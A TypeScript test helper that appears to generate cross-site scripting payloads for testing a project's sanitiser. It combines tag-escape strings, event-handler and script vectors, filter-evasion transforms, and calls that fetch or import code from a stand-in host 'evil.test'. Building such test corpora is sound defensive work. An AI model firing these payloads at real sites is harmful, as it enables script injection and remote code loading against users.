import {existsSync, readFileSync} from 'node:fs';
import {join} from 'node:path';

const FILE = join(process.env['CORPORA'] ?? '../shared/corpora', 'injections.json');

/** What others collected, where it is at hand; see CONTRIBUTING.md. */
function collected(): string[] {
  if (existsSync(FILE)) return (JSON.parse(readFileSync(FILE, 'utf8')) as {payload: string}[]).map(({payload}) => payload);
  console.log(`${FILE} is not there: only payloads of our own are tried. CORPORA names the folder that has it.`);
  return [];
}

/** How many of all payloads run where nothing stops them, at least. Many of our own wait for a press, or ask for a file instead. */
export const RUN_AT_LEAST = existsSync(FILE) ? 1 / 10 : 1 / 30;

/** Ends of what a text may have been put into. */
const EXITS = ['', '"', '\'', '">', '\'>', '-->', ']]>', '</title>', '</style>', '</script>', '</textarea>', '</template></div></ham-exercise>', '\u0000', '\u2028', '](', '`', '${', '{{', '&#34;>', '\\">'];
/** What acts by itself, or when somebody does something. */
const ACTS = [
  '<img src=x onerror=CALL>', '<svg onload=CALL>', '<svg><animate onbegin=CALL attributeName=x dur=1s>', '<details open ontoggle=CALL>', '<audio src=x onerror=CALL>', '<iframe srcdoc="<script>parent.CALL</script>">',
  '<script>CALL</script>', '<style>*{background:url(//evil.test/CALL)}</style>', '<link rel=stylesheet href=//evil.test/CALL>', '<meta http-equiv=refresh content="0;url=//evil.test/CALL">', '<base href=//evil.test/>',
  '<object data=javascript:CALL>', '<form action=javascript:CALL><button>x</button></form>', '<a href=javascript:CALL>x</a>', ' onmouseover=CALL x=', ' style=background:url(//evil.test/CALL) ', 'javascript:CALL',
  'java\tscript:CALL', 'data:text/html,<script>CALL</script>', '[x](javascript:CALL)', '![x](//evil.test/CALL)', '<ham-circuit onclick=CALL>', '<x-y is=ham-exercise onfocus=CALL tabindex=1 autofocus>',
];
const CALLS = ['alert(1)', 'alert`1`', 'fetch("//evil.test/")', 'top.alert(1)', 'import("//evil.test/x.js")'];
/** Ways to write the same so that a filter does not know it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text, (text) => text.toUpperCase().replaceAll('ALERT', 'alert'), (text) => text.replaceAll(' ', '/'), (text) => text.replaceAll('<', '&lt;'), (text) => text.replaceAll('<', '<\n'),
  (text) => text.replaceAll('=', ' = '), (text) => text.replaceAll('script', 'scr\u0000ipt'), (text) => `<!--${text}`,
];

/** Payloads of our own: every exit with every act, disguised in turn. */
function* generated(): Generator<string> {
  let turn = 0;
  for (const disguise of DISGUISES) {
    for (const exit of EXITS) {
      for (const act of ACTS) yield exit + disguise(act.replaceAll('CALL', CALLS[turn++ % CALLS.length] ?? ''));
    }
  }
}

/** All payloads, or a part of them that has of every sort. */
export function payloads(most = Infinity): readonly string[] {
  const all = [...new Set([...generated(), ...collected()])];
  const step = Math.max(1, all.length / most);
  return Array.from({length: Math.floor(all.length / step)}, (_, at) => all[Math.floor(at * step)] ?? '');
}
